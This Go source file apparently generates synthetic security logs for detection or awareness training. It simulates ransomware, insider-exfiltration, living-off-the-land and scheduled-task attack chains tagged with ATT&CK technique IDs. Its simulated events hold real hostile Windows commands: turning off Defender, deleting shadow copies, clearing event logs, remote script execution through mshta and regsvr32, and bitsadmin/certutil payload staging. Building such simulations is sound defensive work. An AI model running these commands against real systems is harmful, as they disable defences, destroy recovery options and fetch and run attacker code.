package awareness

// ransomChain: the hour before a company stands still. Protection is turned off,
// copies are removed, services stop, the log is cleared, files begin to change.
func ransomChain(c *chain) {
	s, source := c.s, c.victim()
	h := c.server(fileServer)
	c.t = max(c.t, c.r.between(11*hour, 15*hour))
	as := pick(c.r, s.w.byRole[adminPC]).owner.name
	c.do("T1021.001", h, func(t int64) { s.desktop(t, source, h, as) })
	// Everything from here on runs on the server, as an administrator.
	c.wait(2, 12)
	var shell *process
	get := func() *process { return shell }
	c.do("T1059.003", h, func(t int64) {
		shell = s.run(t, h.base.explorer, sys32+"cmd.exe", `cmd.exe /c C:\Users\Public\`+c.r.letters(lower, 5)+`.bat`, as)
	})
	c.pause(4, 40)
	way := c.variant(3)
	c.do("T1562.001", h, func(t int64) {
		switch way {
		case 0:
			s.run(t, get(), psExe, "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true", "")
		case 1:
			s.run(t, get(), sys32+"sc.exe", "sc.exe config WinDefend start= disabled", "")
			s.run(t+second, get(), sys32+"sc.exe", "sc.exe stop WinDefend", "")
		default:
			p := s.run(t, get(), sys32+"reg.exe", `reg.exe add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f`, "")
			s.setValue(t+second, p, `HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware`, "DWORD (0x00000001)")
		}
	})
	// The backup deletes shadow copies as well, but one drive's oldest and not all.
	c.wait(1, 10)
	c.do("T1490", h, func(t int64) {
		switch c.variant(3) {
		case 0:
			s.run(t, get(), sys32+"vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "")
		case 1:
			s.run(t, get(), sys32+`wbem\WMIC.exe`, "wmic.exe shadowcopy delete", "")
		default:
			s.run(t, get(), psExe, `powershell.exe -c "Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete()}"`, "")
		}
		s.run(t+4*second, get(), sys32+"bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled no", "")
	})
	c.pause(10, 90)
	services := []string{"MSSQLSERVER", "VaultBackupSvc", "MSExchangeIS", "VSS", "SQLWriter", "ErpService", "CrmHost"}
	c.do("T1489", h, func(t int64) {
		for i := range 4 + c.r.intn(3) {
			s.run(t+int64(i)*1500*millisecond, get(), sys32+"net.exe", "net.exe stop "+services[i]+" /y", "")
		}
	})
	c.pause(30, 200)
	c.do("T1070.001", h, func(t int64) {
		s.run(t, get(), sys32+"wevtutil.exe", "wevtutil.exe cl Security", "")
		s.event(t+second, h, 1102, security, field{"SubjectUserName", as})
	})
	// A compiler writes files as fast; a second ending on documents is the difference.
	c.wait(1, 12)
	tool, ending := c.hideout(h, ".exe"), "."+c.r.letters(lowerNum, 5)
	files := 120 + c.r.int64n(250)
	c.do("T1486", h, func(t int64) {
		p := s.run(t, get(), tool, `"`+tool+`" -path D:\shares`, "")
		for i := range files {
			s.write(t+second+i*180*millisecond, p, `D:\shares\`+pick(c.r, departments)+`\`+s.document()+`.docx`+ending)
		}
	})
}

// insiderChain: somebody who is leaving takes the files along. Every tool is allowed;
// only the amounts and the destination are wrong.
func insiderChain(c *chain) {
	s, h := c.s, c.victim("engineering", "sales", "legal", "logistics", "support")
	c.t = max(h.on, 9*hour) + c.r.wait(60, 240)
	shares := s.w.byRole[fileServer]
	c.do("T1039", h, func(t int64) {
		for i := range 4 + c.r.int64n(6) {
			s.smb(t+i*c.r.wait(1, 3), h, pick(c.r, shares), 90_000, c.r.between(150_000_000, 900_000_000), h.owner.name)
		}
	})
	c.wait(25, 60)
	c.pack(h, func() *process { return h.base.explorer })
	c.wait(4, 25)
	// Not the service that the organisation pays for; colleagues use it for small things.
	to := s.w.sites.storage[1:][c.r.intn(len(s.w.sites.storage)-1)]
	to.tls = true
	chunks := 3 + c.r.int64n(8)
	c.do("T1567.002", h, func(t int64) {
		for i := range chunks {
			s.web(t+i*c.r.wait(1, 4), h, request{site: to, sent: c.r.between(30_000_000, 400_000_000), received: 30_000, proc: h.base.browser, cached: i > 0})
		}
	})
	c.wait(30, 60)
	way := c.variant(3)
	c.do("T1070.004", h, func(t int64) {
		switch way {
		case 0:
			s.run(t, h.base.explorer, sys32+"cmd.exe", `cmd.exe /c del /f /q C:\Users\`+h.owner.name+`\AppData\Local\Temp\*.7z`, "")
		case 1:
			s.run(t, h.base.explorer, `C:\Users\`+h.owner.name+`\Downloads\sdelete64.exe`, `sdelete64.exe -p 3 -s C:\Users\`+h.owner.name+`\Archive`, "")
		default:
			s.run(t, h.base.explorer, sys32+"cipher.exe", `cipher.exe /w:C:\Users\`+h.owner.name, "")
		}
	})
}

// lolbinChain: a shortcut starts a chain of programs that Windows brings itself.
func lolbinChain(c *chain) {
	s, h := c.s, c.victim()
	home, stage := s.w.sites.fresh(c.r), c.hideout(h, ".b64")
	var first *process
	c.do("T1204.002", h, func(t int64) {
		s.write(t, h.base.browser, `C:\Users\`+h.owner.name+`\Downloads\`+s.document()+`.iso`)
		first = s.run(t+14*second, h.base.explorer, sys32+"cmd.exe", `cmd.exe /c start /b E:\`+pick(c.r, documentWords)+`.lnk`, "")
	})
	c.pause(16, 30)
	technique, image, command := c.proxyExecution(home)
	var proxy *process
	c.do(technique, h, func(t int64) {
		proxy = s.run(t, first, image, command, "")
		s.web(t+second, h, request{site: home, uri: "/" + c.r.letters(lower, 4), received: 40_000, proc: proxy, agent: "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0)"})
	})
	c.pause(20, 120)
	c.do("T1197", h, func(t int64) {
		p := s.run(t, proxy, sys32+"bitsadmin.exe", `bitsadmin.exe /transfer `+c.r.letters(lower, 5)+` /priority foreground http://`+home.name+`/`+c.r.letters(lowerNum, 6)+` `+stage, "")
		s.web(t+second, h, request{site: home, uri: "/x", received: c.r.between(400_000, 1_500_000), proc: h.base.svchost, cached: true, agent: "Microsoft BITS/7.8"})
		s.write(t+5*second, p, stage)
	})
	c.pause(10, 60)
	library := c.hideout(h, ".dll")
	c.do("T1140", h, func(t int64) {
		p := s.run(t, proxy, sys32+"certutil.exe", `certutil.exe -decode `+stage+` `+library, "")
		s.write(t+second, p, library)
	})
	c.pause(4, 30)
	var implant *process
	if technique != "T1218.011" {
		c.do("T1218.011", h, func(t int64) {
			implant = s.run(t, proxy, sys32+"rundll32.exe", `rundll32.exe `+library+`,`+pick(c.r, []string{"Start", "#1", "DllMain"}), "")
			s.load(t+second, implant, library, false)
		})
	}
	c.pause(10, 60)
	c.beacon(h, func() *process {
		if implant == nil {
			return proxy
		}
		return implant
	}, home, c.t+c.r.wait(120, 300))
}

// proxyExecution runs foreign code through a signed program.
func (c *chain) proxyExecution(home site) (technique, image, command string) {
	switch c.variant(3) {
	case 0:
		return "T1218.005", sys32 + "mshta.exe", `mshta.exe http://` + home.name + `/` + c.r.letters(lower, 5) + `.hta`
	case 1:
		return "T1218.010", sys32 + "regsvr32.exe", `regsvr32.exe /s /n /u /i:http://` + home.name + `/` + c.r.letters(lower, 4) + `.sct scrobj.dll`
	default:
		return "T1218.005", sys32 + "mshta.exe", `mshta.exe vbscript:Close(Execute("GetObject(""script:https://` + home.name + `/` + c.r.letters(lower, 4) + `"")"))`
	}
}

// taskChain: a link leads to a script that plants a task, and the task brings the
// intruder back.
func taskChain(c *chain) {
	s, h := c.s, c.victim()
	home, file := s.w.sites.fresh(c.r), c.hideout(h, ".js")
	var script, implant *process
	c.do("T1566.002", h, func(t int64) {
		s.web(t, h, request{site: home, uri: "/" + pick(c.r, documentWords), received: 60_000, proc: h.base.browser})
		s.write(t+6*second, h.base.browser, `C:\Users\`+h.owner.name+`\Downloads\`+pick(c.r, documentWords)+`.js`)
	})
	c.pause(15, 80)
	c.do("T1059.007", h, func(t int64) {
		script = s.run(t, h.base.explorer, sys32+"wscript.exe", `wscript.exe "C:\Users\`+h.owner.name+`\Downloads\`+pick(c.r, documentWords)+`.js"`, "")
		s.write(t+2*second, script, file)
	})
	c.pause(10, 60)
	name := pick(c.r, nameHeads) + "Sync"
	way := c.variant(3)
	c.do("T1053.005", h, func(t int64) {
		action := `wscript.exe //B "` + file + `"`
		if way == 0 {
			s.run(t, script, sys32+"schtasks.exe", `schtasks.exe /create /f /tn `+name+` /sc minute /mo 30 /tr "`+action+`"`, "")
		} else if way == 1 {
			s.run(t, script, psExe, `powershell.exe -w hidden Register-ScheduledTask -TaskName `+name+` -Action (New-ScheduledTaskAction -Execute wscript.exe)`, "")
		}
		s.event(t+second, h, 4698, security, field{"SubjectUserName", h.owner.name}, field{"TaskName", `\` + name}, field{"TaskContent", `<Exec><Command>` + action + `</Command></Exec>`})
	})
	// The task fires later, as a child of the scheduler and not of the script.
	c.wait(20, 40)
	c.do("T1059.007", h, func(t int64) {
		implant = s.run(t, h.base.svchost, sys32+"wscript.exe", `wscript.exe //B "`+file+`"`, h.owner.name)
	})
	c.pause(5, 30)
	get := func() *process { return implant }
	c.beacon(h, get, home, c.t+c.r.wait(120, 300))
	c.wait(10, 60)
	c.look(h, get, "T1033", "T1016", "T1082", "T1069.002")
}
